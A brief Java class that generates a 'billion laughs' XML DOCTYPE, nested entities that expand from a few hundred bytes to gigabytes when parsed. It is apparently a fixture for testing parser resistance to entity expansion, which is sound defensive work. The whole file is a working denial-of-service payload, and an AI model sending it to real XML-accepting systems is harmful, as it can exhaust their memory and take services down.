package org.zhibiao.document.format;

/** An entity of an entity of an entity: small when read, some gigabytes when put in. */
public final class Laughs {

    /** Takes the name of the root. */
    public static final String DOCTYPE = doctype();

    private Laughs() {}

    private static String doctype() {
        StringBuilder text = new StringBuilder("<!DOCTYPE %s [<!ENTITY a0 \"laugh\">");
        for (int i = 1; i <= 9; i++) {
            text.append("<!ENTITY a%d \"%s\">".formatted(i, ("&a" + (i - 1) + ";").repeat(10)));
        }
        return text.append("<!ENTITY c \"&a9;\">]>").toString();
    }
}
